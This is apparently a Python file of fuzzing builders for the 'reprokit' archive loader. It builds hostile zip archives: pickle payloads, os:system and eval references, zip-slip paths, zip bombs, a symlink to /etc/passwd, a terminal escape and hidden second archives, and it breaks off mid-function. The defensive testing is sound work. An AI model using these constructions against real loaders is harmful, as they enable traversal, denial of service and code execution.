"""The hostile corpus: archives an attacker would send, each built from a real valid one.

Every builder takes the valid archive (its bytes and members) and returns
the bytes of a doctored copy. `CASES` maps a case name to (builder, a
fragment the one-line error must contain). Nothing here is a test; see
test_corpus.py.
"""

from __future__ import annotations

import io
import json
import math
import stat
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import msgpack
from fuzzer import PICKLE_PAYLOAD, Member, replace_member, write_members

# What os.system would be asked to run, if anything ever called it; the
# tests check that this file never appears.
MARKER = "reprokit-pwned"
_COMMAND = f"touch {MARKER}"

Builder = Callable[[bytes, list[Member]], bytes]
CASES: dict[str, tuple[Builder, str]] = {}
# Cases that only some commands can refuse: `verify` and `inspect` judge
# names by the rules alone (they import nothing), so a name that obeys the
# rules but is no function (`jax.numpy:os`) is refused only when `run`
# resolves it; `inspect` shows names from modules it cannot judge.
REFUSED_BY: dict[str, tuple[str, ...]] = {
    "fn-jnp-os": ("run",),
    "fn-lookalike-module": ("run", "verify"),
    "type-lookalike-module": ("run", "verify"),
    "obj-lookalike-module": ("run", "verify"),
}


def case(name: str, expect: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        CASES[name] = (builder, expect)
        return builder

    return register


# ------------------------------------------------------------------ helpers


def _manifest(members: list[Member]) -> dict:
    return json.loads(next(m.data for m in members if m.name == "manifest.json"))


def _structure(members: list[Member]) -> dict:
    data = next(m.data for m in members if m.name == "structure.msgpack")
    return msgpack.unpackb(data, raw=False)


def _with_manifest(members: list[Member], manifest: Any, text: str | None = None) -> bytes:
    text = text if text is not None else json.dumps(manifest, allow_nan=True)
    return write_members(replace_member(members, "manifest.json", text.encode()))


def _with_structure(members: list[Member], structure: Any) -> bytes:
    return write_members(replace_member(members, "structure.msgpack", msgpack.packb(structure)))


def _edit_manifest(edit: Callable[[dict], None]) -> Builder:
    def build(data: bytes, members: list[Member]) -> bytes:
        manifest = _manifest(members)
        edit(manifest)
        return _with_manifest(members, manifest)

    return build


def _with_side_input(node: Any) -> Builder:
    """Puts `node` among the record's side inputs, where the loader decodes it."""

    def build(data: bytes, members: list[Member]) -> bytes:
        structure = _structure(members)
        structure["record"]["side_inputs"]["v"].append(["evil", node])
        return _with_structure(members, structure)

    return build


def _with_layer_before(layer: Any) -> Builder:
    """Makes the submodel Sequential([layer, original]): a hostile layer field."""

    def build(data: bytes, members: list[Member]) -> bytes:
        structure = _structure(members)
        original = structure["record"]["submodel"]
        structure["record"]["submodel"] = {
            "$t": "obj",
            "type": "penzai.nn.grouping:Sequential",
            "f": [["sublayers", [layer, original]]],
        }
        return _with_structure(members, structure)

    return build


def _elementwise(fn: Any) -> dict:
    return {"$t": "obj", "type": "penzai.nn.basic_ops:Elementwise", "f": [["fn", fn]]}


def _fn(name: str) -> dict:
    return {"$t": "fn", "name": name}


def _edit_array(index: int, **fields: Any) -> Builder:
    """Changes one array descriptor (and the manifest's byte total, to match it)."""

    def build(data: bytes, members: list[Member]) -> bytes:
        structure = _structure(members)
        structure["arrays"][index].update(fields)
        manifest = _manifest(members)
        sizes = [desc["nbytes"] for desc in structure["arrays"]]
        if all(isinstance(size, int) for size in sizes):
            manifest["arrays"]["bytes"] = sum(sizes)
        changed = replace_member(members, "manifest.json", json.dumps(manifest).encode())
        return _with_structure(changed, structure)

    return build


def _entries(data: bytes) -> list[tuple[str, int, int]]:
    """(name, central directory offset, local header offset) of a small zip's members."""
    eocd = data.rindex(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    entries, position = [], cd_offset
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        (header_offset,) = struct.unpack_from("<I", data, position + 42)
        name = data[position + 46 : position + 46 + name_length].decode("utf-8")
        entries.append((name, position, header_offset))
        position += 46 + name_length + extra_length + comment_length
    return entries


def _data_span(data: bytes, header_offset: int) -> tuple[int, int]:
    name_length, extra_length = struct.unpack_from("<HH", data, header_offset + 26)
    (compressed,) = struct.unpack_from("<I", data, header_offset + 18)
    start = header_offset + 30 + name_length + extra_length
    return start, start + compressed


def _patch(data: bytes, patches: list[tuple[int, str, int]]) -> bytes:
    buffer = bytearray(data)
    for offset, fmt, value in patches:
        struct.pack_into(fmt, buffer, offset, value)
    return bytes(buffer)


def _zip_with(members: list[Member], extra: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in members:
            info = zipfile.ZipInfo(member.name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED if member.compress else zipfile.ZIP_STORED
            archive.writestr(info, member.data)
        for info, payload in extra:
            archive.writestr(info, payload)
    return buffer.getvalue()


def _info(name: str, mode: int = stat.S_IFREG | 0o644, method: int = zipfile.ZIP_STORED):
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.external_attr = mode << 16
    info.compress_type = method
    return info


# ------------------------------------------------------------------ pickles


class Absent(Exception):
    """The base archive has no such member; the case does not apply."""


def _pickle_in(name: str) -> Builder:
    def build(data: bytes, members: list[Member]) -> bytes:
        if name not in {m.name for m in members}:
            raise Absent(name)
        return write_members(replace_member(members, name, PICKLE_PAYLOAD))

    return build


# Every member a packed tiny Linear has, with what refusing a pickle in its
# place says. A case whose member the base archive lacks is skipped.
BASE_MEMBERS = {
    "manifest.json": "manifest.json is not",
    "structure.msgpack": "structure is not valid msgpack",
    "arrays/0.bin": "wrong size",
    "arrays/1.bin": "wrong size",
    "arrays/2.bin": "wrong size",
    "replay.py": "not UTF-8",
    "README.md": "not UTF-8",
    "requirements.txt": "not UTF-8",
    "stablehlo.mlirbc": "not MLIR bytecode",
    "selfcheck.json": "not UTF-8",
}
for _name, _expect in BASE_MEMBERS.items():
    case(f"pickle-as-{_name}", _expect)(_pickle_in(_name))

for _extra in ("payload.pkl", "arrays/0.npy", "data.pickle", "__init__.py"):
    case(f"pickle-extra-{_extra}", "unexpected member")(
        lambda data, members, _extra=_extra: write_members(
            [*members, Member(_extra, PICKLE_PAYLOAD)]
        )
    )

case("pickle-as-object-scalar", "malformed 'scalar' node")(
    _with_side_input({"$t": "scalar", "dtype": "object", "v": PICKLE_PAYLOAD})
)


@case("msgpack-extension-type", "not valid msgpack")
def _extension(data: bytes, members: list[Member]) -> bytes:
    structure = _structure(members)
    structure["record"]["argument"] = msgpack.ExtType(1, PICKLE_PAYLOAD)
    return write_members(replace_member(members, "structure.msgpack", msgpack.packb(structure)))


# ------------------------------------------------------------------ names

HOSTILE_NAMES = {
    "os-system": "os:system",
    "posix-system": "posix:system",
    "subprocess-popen": "subprocess:Popen",
    "builtins-eval": "builtins:eval",
    "builtins-exec": "builtins:exec",
    "builtins-open": "builtins:open",
    "importlib-import-module": "importlib:import_module",
    "pickle-loads": "pickle:loads",
    "jnp-save": "jax.numpy:save",
    "jnp-load": "jax.numpy:load",
    "numpy-memmap": "numpy:memmap",
    "jax-pure-callback": "jax:pure_callback",
    "jax-debug-callback": "jax.debug:callback",
    "relu-globals": "jax.nn:relu.__globals__",
    "numpy-os-system": "numpy:os.system",
    "jnp-os": "jax.numpy:os",
    "private-function": "jax.nn:_private",
    "private-module": "penzai.core._treescope_handlers:Handler",
    "dunder-init": "penzai.nn.basic_ops:Elementwise.__init__",
    "lookalike-module": "penzai.toolshed.jit_wrapper2:Jitted",
    "cyrillic-lookalike": "jax.nn:r\u0435lu",
    "reprokit-itself": "reprokit._cli:main",
    # Flax is trusted class by class and function by function, never by module.
    "flax-msgpack-restore": "flax.serialization:msgpack_restore",
    "flax-restore-checkpoint": "flax.training.checkpoints:restore_checkpoint",
    "flax-module-base": "flax.linen.module:Module",
    "flax-unreviewed-layer": "flax.linen.recurrent:LSTMCell",
}
for _label, _name in HOSTILE_NAMES.items():
    _quoted = repr(_name)[1:-1] if _name.isascii() else "malformed"
    case(f"fn-{_label}", _quoted)(_with_side_input(_fn(_name)))
    case(f"type-{_label}", _quoted)(_with_side_input({"$t": "type", "name": _name}))
    case(f"obj-{_label}", _quoted)(_with_side_input({"$t": "obj", "type": _name, "f": []}))

case("enum-os", "os:system")(_with_side_input({"$t": "enum", "type": "os:system", "name": "X"}))
case("partial-of-os-system", "os:system")(
    _with_side_input({"$t": "partial", "fn": _fn("os:system"), "args": [_COMMAND], "kw": []})
)
case("builtin-type-eval", "unknown builtin type")(
    _with_side_input({"$t": "builtin_type", "name": "eval"})
)
case("builtin-type-type", "unknown builtin type")(
    _with_side_input({"$t": "builtin_type", "name": "type"})
)
case("initializer-of-restore-checkpoint", "flax.training.checkpoints:restore_checkpoint")(
    _with_side_input(
        {
            "$t": "initializer",
            "factory": "flax.training.checkpoints:restore_checkpoint",
            "kw": [["ckpt_dir", "/tmp"]],
        }
    )
)
case("unknown-node-kind", "unknown node kind")(_with_side_input({"$t": "pickle", "v": b"x"}))
case("manifest-modules-os", "never allows")(
    _edit_manifest(lambda m: m.__setitem__("modules", ["os"]))
)
case("manifest-modules-subprocess", "never allows")(
    _edit_manifest(lambda m: m.__setitem__("modules", ["subprocess"]))
)
case("manifest-modules-pip", "never allows")(
    _edit_manifest(lambda m: m.__setitem__("modules", ["pip"]))
)
case("manifest-modules-builtins", "never allows")(
    _edit_manifest(lambda m: m.__setitem__("modules", ["builtins"]))
)

# ------------------------------------------------------------------ layer fields

for _label, _node in {
    "jnp-load": _fn("jax.numpy:load"),
    "jnp-save": _fn("jax.numpy:save"),
    "jnp-fromfile": _fn("jax.numpy:fromfile"),
    "lax-cond": _fn("jax.lax:cond"),
    "apply-along-axis": _fn("jax.numpy:apply_along_axis"),
    "pure-callback": _fn("jax:pure_callback"),
    "partial-jnp-save": {
        "$t": "partial",
        "fn": _fn("jax.numpy:save"),
        "args": ["/tmp/reprokit-pwned"],
        "kw": [],
    },
    "partial-open": {"$t": "partial", "fn": _fn("builtins:open"), "args": [MARKER], "kw": []},
    "partial-of-partial-system": {
        "$t": "partial",
        "fn": {"$t": "partial", "fn": _fn("os:system"), "args": [_COMMAND], "kw": []},
        "args": [],
        "kw": [],
    },
    "class-as-function": {"$t": "type", "name": "subprocess:Popen"},
}.items():
    case(f"elementwise-{_label}", "")(_with_layer_before(_elementwise(_node)))

case("jitted-body-fromfile", "jax.numpy:fromfile")(
    _with_layer_before(
        {
            "$t": "obj",
            "type": "penzai.toolshed.jit_wrapper:Jitted",
            "f": [["body", _elementwise(_fn("jax.numpy:fromfile"))]],
        }
    )
)

# ------------------------------------------------------------------ arrays

case("array-oversized", "")(_edit_array(0, shape=[2**31, 2**31], nbytes=2**62 * 4 - 1))
case("array-oversized-consistent", "wrong size")(_edit_array(0, shape=[2**16, 2**16], nbytes=2**34))


@case("array-zero-filled-bomb", "limit")
def _zero_filled_bomb(data: bytes, members: list[Member]) -> bytes:
    # A zero-filled array has no member: 8 bytes of JSON could ask for 4 TiB.
    build = _edit_array(0, fill="zeros", shape=[2**20, 2**20], nbytes=2**42)
    return build(data, [m for m in members if m.name != "arrays/0.bin"])


def _filled_array(index: int, **fields: Any) -> Builder:
    """Array `index` becomes a payload-free fill described by `fields`; its member goes."""
    edit = _edit_array(index, **fields)
    return lambda data, members: edit(
        data, [m for m in members if m.name != f"arrays/{index}.bin"]
    )


# A repeated element has no member either; its bytes must be the dtype's, in hex.
case("array-repeat-filled-bomb", "limit")(
    _filled_array(0, fill="repeat", element="0000c07f", shape=[2**20, 2**20], nbytes=2**42)
)
for _label, _element in {
    "short": "00",
    "long": "0000c07f00",
    "not-hex": "zzzzzzzz",
    "uppercase": "0000C07F",
    "list": [0, 0, 192, 127],
    "bytes": b"\x00\x00\xc0\x7f",
    "none": None,
}.items():
    case(f"array-repeat-element-{_label}", "repeated element")(
        _filled_array(0, fill="repeat", element=_element)
    )
# Just within the total-size limit (256 GiB) but beyond the memory of any
# machine the tests run on: only `run` rebuilds arrays, and it refuses before
# allocating instead of being killed. The test skips it, saying so, on a
# machine with that much memory available.
BEYOND_MEMORY = 4 * 2**18 * (2**18 - 16)
case("array-fill-beyond-memory", "of memory")(
    _filled_array(
        0, fill="repeat", element="0000c07f", shape=[2**18, 2**18 - 16], nbytes=BEYOND_MEMORY
    )
)
REFUSED_BY["array-fill-beyond-memory"] = ("run",)
case("array-repeat-without-element", "exactly when")(_filled_array(0, fill="repeat"))
case("array-element-without-fill", "exactly when")(_edit_array(0, element="00000000"))
case("array-zeros-fill-with-element", "exactly when")(
    _filled_array(0, fill="zeros", element="00000000")
)
case("array-unknown-fill", "unknown array fill")(_filled_array(0, fill="ones"))
case("array-fill-not-a-string", "unknown array fill")(_filled_array(0, fill=["zeros"]))
case("array-repeat-fill-with-payload", "no payload member")(
    _edit_array(0, fill="repeat", element="0000c07f")
)

case("array-negative-shape", "invalid array dimension")(_edit_array(0, shape=[-4, -8], nbytes=128))
case("array-overflowing-shape", "invalid array dimension")(
    _edit_array(0, shape=[2**63 - 1, 2], nbytes=128)
)
case("array-rank-65", "at most 64")(_edit_array(0, shape=[1] * 65, nbytes=4))
case("array-string-shape", "invalid array dimension")(_edit_array(0, shape=["4", "8"]))
case("array-nbytes-lie", "byte size does not match")(_edit_array(0, nbytes=64))
for _dtype in ("object", "O", "|O", "V2", "void", "<U4", "str", "datetime64", "float32\x00"):
    case(f"array-dtype-{_dtype!r}", "dtype")(_edit_array(0, dtype=_dtype))
case("array-unknown-kind", "unknown array kind")(_edit_array(0, kind="pickle"))
case("array-key-impl", "PRNG implementation")(_edit_array(0, kind="key", key_impl="os.system"))
case("array-index-out-of-range", "does not hold")(_with_side_input({"$t": "array", "i": 7}))
case("array-index-negative", "does not hold")(_with_side_input({"$t": "array", "i": -1}))


@case("array-never-used", "never uses")
def _unused_array(data: bytes, members: list[Member]) -> bytes:
    structure = _structure(members)
    structure["arrays"].append(dict(structure["arrays"][0]))
    manifest = _manifest(members)
    manifest["arrays"]["count"] += 1
    manifest["arrays"]["bytes"] += structure["arrays"][0]["nbytes"]
    payload = next(m.data for m in members if m.name == "arrays/0.bin")
    changed = replace_member(members, "structure.msgpack", msgpack.packb(structure))
    changed = replace_member(changed, "manifest.json", json.dumps(manifest).encode())
    return write_members([*changed, Member(f"arrays/{len(structure['arrays']) - 1}.bin", payload)])


# ------------------------------------------------------------------ manifests


def _nan_everywhere(manifest: Any) -> Any:
    if isinstance(manifest, dict):
        return {key: _nan_everywhere(value) for key, value in manifest.items()}
    if isinstance(manifest, list):
        return [_nan_everywhere(value) for value in manifest]
    if isinstance(manifest, (int, float)) and not isinstance(manifest, bool):
        return math.nan
    return manifest


case("manifest-nan-filled", "NaN")(
    lambda data, members: _with_manifest(members, _nan_everywhere(_manifest(members)))
)
case("manifest-infinity", "Infinity")(
    _edit_manifest(lambda m: m["signature"].__setitem__("rtol", math.inf))
)
case("manifest-repeated-key", "repeats the key")(
    lambda data, members: _with_manifest(
        members,
        None,
        json.dumps(_manifest(members)).replace('{"', '{"format_version": 99, "', 1),
    )
)
case("manifest-deeply-nested", "not valid JSON")(
    lambda data, members: _with_manifest(
        members, None, '{"format": "reprokit", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    )
)
case("manifest-utf16", "not UTF-8")(
    lambda data, members: write_members(
        replace_member(members, "manifest.json", json.dumps(_manifest(members)).encode("utf-16"))
    )
)
case("manifest-terminal-escape", "control character")(
    _edit_manifest(lambda m: m.__setitem__("note", "\x1b]52;c;ZWNobyBvd25lZA==\x07"))
)
case("manifest-xla-dump-to", "read or write files")(
    _edit_manifest(
        lambda m: m["environment"].__setitem__("xla_flags", ["--xla_dump_to=/tmp/reprokit-pwned"])
    )
)
case("manifest-xla-ptx-file", "read or write files")(
    _edit_manifest(
        lambda m: m["environment"].__setitem__("xla_flags", ["--xla_gpu_ptx_file=evil.ptx"])
    )
)
case("manifest-xla-not-a-flag", "malformed XLA flag")(
    _edit_manifest(
        lambda m: m["environment"].__setitem__("xla_flags", ["--xla_a=1 --xla_dump_to=/tmp"])
    )
)
case("manifest-array-count-huge", "'count'")(
    _edit_manifest(lambda m: m["arrays"].__setitem__("count", 10**12))
)
case("manifest-not-an-object", "not a JSON object")(
    lambda data, members: _with_manifest(members, None, "[1, 2, 3]")
)
case("manifest-newer-format", "upgrade reprokit")(
    _edit_manifest(lambda m: m.__setitem__("format_version", 2))
)
case("manifest-format-version-bool", "format_version")(
    _edit_manifest(lambda m: m.__setitem__("format_version", True))
)

# ------------------------------------------------------------------ structures


@case("structure-nested-250", "nested more than")
def _nested(data: bytes, members: list[Member]) -> bytes:
    structure = _structure(members)
    node: Any = 0
    for _ in range(250):
        node = [node]
    structure["record"]["argument"] = node
    return _with_structure(members, structure)


@case("structure-nested-100000", "msgpack")
def _very_nested(data: bytes, members: list[Member]) -> bytes:
    structure = _structure(members)
    structure["record"]["argument"] = "@@DEEP@@"
    packed = msgpack.packb(structure).replace(
        msgpack.packb("@@DEEP@@"), b"\x91" * 100_000 + b"\xc0"
    )
    return write_members(replace_member(members, "structure.msgpack", packed))


@case("structure-missing-part", "missing or unexpected part")
def _missing_part(data: bytes, members: list[Member]) -> bytes:
    structure = _structure(members)
    del structure["record"]["side_inputs"]
    return _with_structure(members, structure)


case("structure-extra-key", "unexpected or missing keys")(
    _with_side_input({"$t": "fn", "name": "jax.nn:relu", "__reduce__": "os:system"})
)
case("structure-huge-int", "malformed 'int' node")(
    _with_side_input({"$t": "int", "v": "9" * 100_000})
)
case("structure-not-msgpack", "msgpack")(
    lambda data, members: write_members(
        replace_member(members, "structure.msgpack", b"\xc1\xc1\xc1")
    )
)
case("structure-map-key-not-string", "msgpack")(
    lambda data, members: write_members(
        replace_member(members, "structure.msgpack", msgpack.packb({1: 2}))
    )
)

# ------------------------------------------------------------------ container


def _renamed(new_name: str) -> Builder:
    """Adds a member called `new_name`; zipfile cannot write a NUL, so that is patched in."""

    def build(data: bytes, members: list[Member]) -> bytes:
        script = b"import os; os.system('touch reprokit-pwned')\n"
        data = write_members([*members, Member(new_name.replace("\x00", "#"), script)])
        if "\x00" not in new_name:
            return data
        written = new_name.replace("\x00", "#").encode()
        return data.replace(written, new_name.encode())

    return build


for _label, _name in {
    "dotdot": "../evil.py",
    "dotdot-deep": "../../../../../../tmp/evil.py",
    "dotdot-inside": "arrays/../../evil.py",
    "absolute": "/tmp/evil.py",
    "windows-drive": "C:\\evil.py",
    "backslash-dotdot": "..\\evil.py",
    "nul": "evil.py\x00.txt",
    "bidi-override": "\u202eyp.live",
    "dot-component": "./evil.py",
    "empty-component": "arrays//evil.py",
}.items():
    case(f"zip-slip-{_label}", "unsafe name" if _label != "dotdot-inside" else "")(_renamed(_name))

case("member-duplicate-manifest", "appears more than once")(
    lambda data, members: write_members(
        [*members, Member("manifest.json", json.dumps({"format": "evil"}).encode())]
    )
)
case("member-symlink", "symbolic link")(
    lambda data, members: _zip_with(
        [m for m in members if m.name != "replay.py"],
        [(_info("replay.py", stat.S_IFLNK | 0o777), b"/etc/passwd")],
    )
)
case("member-directory", "directory entry")(
    lambda data, members: _zip_with(members, [(_info("arrays/", stat.S_IFDIR | 0o755), b"")])
)
case("member-fifo", "FIFO")(
    lambda data, members: _zip_with(
        [m for m in members if m.name != "README.md"],
        [(_info("README.md", stat.S_IFIFO | 0o644), b"")],
    )
)
case("member-device", "device")(
    lambda data, members: _zip_with(
        [m for m in members if m.name != "README.md"],
        [(_info("README.md", stat.S_IFCHR | 0o644), b"")],
    )
)


@case("member-encrypted", "encrypted")
def _encrypted(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    patches = []
    for name, cd, local in _entries(data):
        if name == "manifest.json":
            patches += [(cd + 8, "<H", 1), (local + 6, "<H", 1)]
    return _patch(data, patches)


@case("member-zstd", "compression method 93")
def _zstd(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    patches = []
    for name, cd, local in _entries(data):
        if name == "README.md":
            patches += [(cd + 10, "<H", 93), (local + 8, "<H", 93)]
    return _patch(data, patches)


case("member-bzip2", "compression method 12")(
    lambda data, members: _zip_with(
        [m for m in members if m.name != "README.md"],
        [(_info("README.md", method=zipfile.ZIP_BZIP2), b"# readme\n")],
    )
)


@case("zip-bomb-ratio", "zip bomb")
def _bomb(data: bytes, members: list[Member]) -> bytes:
    return write_members(replace_member(members, "README.md", b" " * (32 * 2**20)))


@case("zip-bomb-lying-size", "inflates beyond its declared size")
def _lying_bomb(data: bytes, members: list[Member]) -> bytes:
    data = write_members(replace_member(members, "README.md", b" " * (2**20)))
    patches = []
    for name, cd, local in _entries(data):
        if name == "README.md":
            patches += [(cd + 24, "<I", 1000), (local + 22, "<I", 1000)]
    return _patch(data, patches)


@case("zip-bomb-overlapping", "")
def _overlap(data: bytes, members: list[Member]) -> bytes:
    # Two central directory entries sharing one local header and its data.
    data = write_members(members)
    entries = {name: (cd, local) for name, cd, local in _entries(data)}
    return _patch(data, [(entries["requirements.txt"][0] + 42, "<I", entries["README.md"][1])])


@case("zip-many-members-claimed", "")
def _many(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    eocd = data.rindex(b"PK\x05\x06")
    return _patch(data, [(eocd + 8, "<H", 0xFFFF), (eocd + 10, "<H", 0xFFFF)])


@case("zip-central-directory-size-lie", "")
def _cd_lie(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    eocd = data.rindex(b"PK\x05\x06")
    return _patch(data, [(eocd + 12, "<I", 2**31)])


case("zip-prepended-data", "")(lambda data, members: b"MZ" + b"\0" * 1000 + data)
case("not-a-zip-pickle", "not a zip archive")(lambda data, members: PICKLE_PAYLOAD)
case("empty-file", "empty")(lambda data, members: b"")
case("only-end-record", "empty")(
    lambda data, members: struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, 0, 0)
)


def _truncated(length: Callable[[int], int]) -> Builder:
    return lambda data, members: data[: length(len(data))]


for _label, _length in {
    "1": lambda n: 1,
    "4": lambda n: 4,
    "100": lambda n: 100,
    "quarter": lambda n: n // 4,
    "half": lambda n: n // 2,
    "minus-100": lambda n: n - 100,
    "minus-22": lambda n: n - 22,
    "minus-1": lambda n: n - 1,
}.items():
    case(f"truncated-{_label}", "")(_truncated(_length))


@case("truncated-member-data", "")
def _truncated_member(data: bytes, members: list[Member]) -> bytes:
    # Cut out the middle of arrays/0.bin, keeping the central directory.
    for name, _, local in _entries(data):
        if name == "arrays/0.bin":
            start, end = _data_span(data, local)
            return data[: start + 8] + data[end:]
    raise AssertionError("no arrays/0.bin")


def _flip_in(member_name: str) -> Builder:
    def build(data: bytes, members: list[Member]) -> bytes:
        for name, _, local in _entries(data):
            if name == member_name:
                start, end = _data_span(data, local)
                position = (start + end) // 2
                return data[:position] + bytes([data[position] ^ 0x01]) + data[position + 1 :]
        raise Absent(member_name)

    return build


for _name in BASE_MEMBERS:
    case(f"flipped-byte-in-{_name}", "")(_flip_in(_name))


# Not hostile: the same shape as the `elementwise-*` cases with an allowed
# function, to show that those are refused for their names alone.
CASES_CONTROL: dict[str, Builder] = {
    "elementwise-relu": _with_layer_before(_elementwise(_fn("jax.nn:relu"))),
}


# ------------------------------------------------------------------ one reading of the zip (class 1)
# Archives that zipfile, unzip and reprokit would read differently; all are
# refused (test_one_reading.py also checks that whatever is accepted reads
# the same in all three).


def _shift_offsets(data: bytes, at: int, by: int) -> bytes:
    """Patches a small zip's central directory and end record for `by` bytes inserted at `at`."""
    patches = []
    for _, cd, local in _entries(data):
        if local >= at:
            patches.append((cd + 42, "<I", local + by))
    eocd = data.rindex(b"PK\x05\x06")
    (cd_offset,) = struct.unpack_from("<I", data, eocd + 16)
    patches.append((eocd + 16, "<I", cd_offset + by))
    return _patch(data, patches)


def _insert(data: bytes, at: int, blob: bytes) -> bytes:
    shifted = _shift_offsets(data, at, len(blob))
    return shifted[:at] + blob + shifted[at:]


_HIDDEN_SCRIPT = b"import os; os.system('touch reprokit-pwned')\n"


def _hidden_zip(name: str = "replay.py") -> bytes:
    return write_members([Member(name, _HIDDEN_SCRIPT)])


@case("zip-comment-holds-second-archive", "comment")
def _comment_archive(data: bytes, members: list[Member]) -> bytes:
    # A whole second archive in the comment: readers that scan the tail for
    # the last end record signature find the hidden one.
    data = write_members(members)
    hidden = _hidden_zip()
    return data[:-2] + struct.pack("<H", len(hidden)) + hidden


@case("zip-comment-plain", "comment")
def _comment_plain(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    return data[:-2] + struct.pack("<H", 5) + b"hello"


@case("zip-gap-hides-a-member", "belong to no member")
def _gap(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    second = sorted(local for _, _, local in _entries(data))[1]
    return _insert(data, second, _hidden_zip()[: _hidden_zip().index(b"PK\x01\x02")])


@case("zip-prepended-archive-offsets-fixed", "before the first member")
def _prepended(data: bytes, members: list[Member]) -> bytes:
    return _insert(write_members(members), 0, _hidden_zip())


@case("zip-after-last-member", "between its last member")
def _after_last(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    eocd = data.rindex(b"PK\x05\x06")
    (cd_offset,) = struct.unpack_from("<I", data, eocd + 16)
    blob = b"\0" * 64
    data = _patch(data, [(eocd + 16, "<I", cd_offset + len(blob))])
    return data[:cd_offset] + blob + data[cd_offset:]


case("zip-trailing-bytes", "")(lambda data, members: write_members(members) + b"\0" * 10)


def _with_extra(name: str, extra: bytes) -> Builder:
    def build(data: bytes, members: list[Member]) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for member in members:
                info = zipfile.ZipInfo(member.name, date_time=(1980, 1, 1, 0, 0, 0))
                info.external_attr = (stat.S_IFREG | 0o644) << 16
                info.compress_type = zipfile.ZIP_DEFLATED if member.compress else zipfile.ZIP_STORED
                if member.name == name:
                    info.extra = extra
                archive.writestr(info, member.data)
        return buffer.getvalue()

    return build


def _unicode_path(new_name: str, old_name: str) -> bytes:
    body = b"\x01" + struct.pack("<I", zipfile.crc32(old_name.encode())) + new_name.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


# unzip names the member "evil.py"; zipfile and reprokit "README.md".
case("zip-unicode-path-renames", "Unicode Path")(
    _with_extra("README.md", _unicode_path("evil.py", "README.md"))
)
case("zip-timestamp-extra", "timestamp")(
    _with_extra("README.md", struct.pack("<HHB", 0x5455, 1, 0))
)
case("zip-unknown-extra", "extra field of type")(
    _with_extra("README.md", struct.pack("<HH", 0xCAFE, 2) + b"\0\0")
)


def _patch_member(member_name: str, *, central: list[tuple[int, str, int]] = (), local=()):
    """Patches fields of one member's central record and/or local header (offsets within them)."""

    def build(data: bytes, members: list[Member]) -> bytes:
        data = write_members(members)
        patches = []
        for name, cd, header in _entries(data):
            if name == member_name:
                patches += [(cd + at, fmt, value) for at, fmt, value in central]
                patches += [(header + at, fmt, value) for at, fmt, value in local]
        return _patch(data, patches)

    return build


case("zip-local-time-differs", "disagree")(_patch_member("README.md", local=[(10, "<H", 0x6000)]))
case("zip-local-version-differs", "disagree")(_patch_member("README.md", local=[(4, "<H", 45)]))
case("zip-local-utf8-flag-only", "disagree")(
    _patch_member("README.md", local=[(6, "<H", 0x0800)])
)
case("zip-data-descriptor", "data descriptor")(
    _patch_member("README.md", central=[(8, "<H", 0x0008)], local=[(6, "<H", 0x0008)])
)
case("zip-utf8-flag-on-ascii", "flags")(
    _patch_member("README.md", central=[(8, "<H", 0x0800)], local=[(6, "<H", 0x0800)])
)


@case("zip-member-comment", "comment")
def _member_comment(data: bytes, members: list[Member]) -> bytes:
    data = write_members(members)
    name, cd, _ = _entries(data)[-1]
    name_length, extra_length = struct.unpack_from("<HH", data, cd + 28)
    end = cd + 46 + name_length + extra_length
    eocd = data.rindex(b"PK\x05\x06")
    (cd_size,) = struct.unpack_from("<I", data, eocd + 12)
    data = _patch(data, [(cd + 32, "<H", 4), (eocd + 12, "<I", cd_size + 4)])
    return data[:end] + b"note" + data[end:]

case("zip-internal-attributes", "internal attributes")(
    _patch_member("README.md", central=[(36, "<H", 1)])
)
case("zip-executable-member", "mode")(
    _patch_member("replay.py", central=[(38, "<I", (stat.S_IFREG | 0o755) << 16)])
)


@case("zip-cp437-name-without-utf8-flag", "flags")
def _cp437(data: bytes, members: list[Member]) -> bytes:
    # zipfile reads these bytes as cp437, other readers as UTF-8 or the locale's charset.
    name = "arrays/\u00e9.bin"
    data = write_members([*members, Member(name, b"x")])
    patches = []
    for entry_name, cd, header in _entries(data):
        if entry_name == name:
            patches += [(cd + 8, "<H", 0), (header + 6, "<H", 0)]
    return _patch(data, patches)


@case("zip-locator-signature-before-end-record", "ZIP64")
def _locator(data: bytes, members: list[Member]) -> bytes:
    # A ZIP64 locator pointing at a second, hidden directory, placed right
    # before a classic end record whose own fields are consistent: zipfile
    # follows the locator, a reader that trusts the classic fields does not.
    data = write_members(members)
    eocd = data.rindex(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    fake = struct.pack("<IIQI", 0x07064B50, 0, 0, 1)
    data = _patch(data, [(eocd + 12, "<I", cd_size + len(fake))])
    return data[:eocd] + fake + data[eocd:]


@case("zip-alignment-padding-carries-bytes", "alignment padding")
def _alignment_bytes(data: bytes, members: list[Member]) -> bytes:
    # The packed base (not rewritten by zipfile) pads its arrays with the
    # alignment field; its padding must be zeros.
    for name, _, header in _entries(data):
        if name.startswith("arrays/"):
            name_length, extra_length = struct.unpack_from("<HH", data, header + 26)
            extra = header + 30 + name_length
            kind, length = struct.unpack_from("<HH", data, extra)
            if kind == 0xD935 and length > 2:
                at = extra + 6
                return data[:at] + b"X" + data[at + 1 :]
    raise Absent("aligned array")


# ------------------------------------------------------------------ what the maintainer reads (class 2)


def _with_member_text(name: str, text: str) -> Builder:
